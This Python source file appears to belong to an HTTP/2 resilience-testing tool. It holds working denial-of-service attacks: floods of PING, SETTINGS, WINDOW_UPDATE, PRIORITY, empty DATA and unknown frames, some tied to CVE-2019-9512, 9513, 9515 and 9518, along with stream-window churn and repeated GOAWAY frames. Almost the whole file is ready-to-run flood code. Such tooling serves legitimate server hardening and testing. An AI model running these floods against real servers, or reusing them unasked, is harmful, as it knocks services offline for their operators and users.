"""Control frames: each is small, legal, and costs its sender nothing."""

from __future__ import annotations

import struct

from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame

from hostile.attacks import attack
from hostile.wire import (
    DATA,
    END_HEADERS,
    HEADERS,
    HEALTH_WATCH,
    PRIORITY,
    REFLECTION,
    SETTINGS,
    Arena,
    Line,
    call_headers,
    frame,
    message,
    preface,
)

# Frames a second over both connections; a batch a tick.
RATE = 20_000
BATCH = RATE // 100 // 2


def _flood(arena: Arena, batch: bytes, frames: int, *, reads: bool = True) -> None:
    """The same frames again and again on two connections."""
    for _ in arena.ticks():
        for line in arena.keep(2, reads=reads):
            if not line.busy:
                line.send(batch)
                arena.sent(frames)


@attack("PING, 20,000 a second (CVE-2019-9512)", cut=True, frames=2_000)
def ping_flood(arena: Arena) -> None:
    _flood(arena, PingFrame(0, b"hostile!").serialize() * BATCH, BATCH)


@attack("PING from who never reads the answers", cut=True, frames=2_000)
def ping_unread(arena: Arena) -> None:
    _flood(arena, PingFrame(0, b"hostile!").serialize() * BATCH, BATCH, reads=False)


@attack("SETTINGS, 20,000 a second (CVE-2019-9515)", cut=True, frames=500)
def settings_flood(arena: Arena) -> None:
    one = SettingsFrame(0, {SettingsFrame.MAX_CONCURRENT_STREAMS: 100, SettingsFrame.HEADER_TABLE_SIZE: 0})
    _flood(arena, one.serialize() * BATCH, BATCH)


@attack("SETTINGS that change the window of 900 open streams each", cut=True, frames=500)
def settings_with_streams(arena: Arena) -> None:
    opening = _open_calls(900, HEALTH_WATCH)
    windows = [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (1_000, 60_000)]
    for _ in arena.ticks():
        for line in arena.keep(1, opening):
            if not line.busy:
                line.send(b"".join(windows) * 10)
                arena.sent(20)


@attack("WINDOW_UPDATE by one byte, 20,000 a second", cut=True, frames=2_000)
def window_update_flood(arena: Arena) -> None:
    _flood(arena, WindowUpdateFrame(0, 1).serialize() * BATCH, BATCH)


@attack("PRIORITY, 20,000 a second (CVE-2019-9513)", cut=True, frames=2_000)
def priority_flood(arena: Arena) -> None:
    frames = [
        PriorityFrame(stream, depends_on=0, stream_weight=stream % 256).serialize()
        for stream in range(1, 2 * BATCH, 2)
    ]
    _flood(arena, b"".join(frames), BATCH)


@attack("frames of a kind nobody knows, 20,000 a second", cut=True, frames=2_000)
def unknown_flood(arena: Arena) -> None:
    _flood(arena, frame(0xFA, 0, 0, b"hostile!") * BATCH, BATCH)


@attack("empty DATA frames, 20,000 a second (CVE-2019-9518)", cut=True, frames=2_000)
def empty_data(arena: Arena) -> None:
    _data(arena, b"")


@attack("DATA frames of one byte, 20,000 a second", frames=2_000)
def one_byte_data(arena: Arena) -> None:
    _data(arena, b"\0")


def _data(arena: Arena, payload: bytes) -> None:
    """DATA on a call that is open for as long as its client likes, reflection."""
    opening = preface() + frame(HEADERS, END_HEADERS, 1, call_headers(REFLECTION))
    # The message that the bytes belong to is too long to be ever complete in this time.
    opening += frame(DATA, 0, 1, message()[:1] + struct.pack(">I", 3 << 20))
    batch = frame(DATA, 0, 1, payload) * BATCH
    for _ in arena.ticks():
        for line in arena.keep(2, opening):
            if not line.busy:
                line.send(batch)
                arena.sent(BATCH)


def _open_calls(count: int, path: str) -> bytes:
    """A preface and so many calls that stay open."""
    block, request = call_headers(path), message()
    calls = []
    for stream in range(1, 2 * count, 2):
        calls.append(frame(HEADERS, END_HEADERS, stream, block))
        calls.append(frame(DATA, 1, stream, request))
    return preface() + b"".join(calls)


@attack("GOAWAY again and again, while calls go on", cut=True, frames=500)
def goaway_games(arena: Arena) -> None:
    block, request = call_headers("/grpc.health.v1.Health/Check"), message()
    goaway = frame(7, 0, 0, struct.pack(">II", (1 << 31) - 1, 0))

    def more(line: Line) -> bytes:
        parts = []
        for _ in range(5):
            stream = line.stream()
            parts += [goaway * 4, frame(HEADERS, END_HEADERS, stream, block), frame(DATA, 1, stream, request)]
            parts.append(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)))
        return b"".join(parts)

    for _ in arena.ticks():
        for line in arena.keep(2):
            if not line.busy:
                line.send(more(line))
                arena.sent(35)
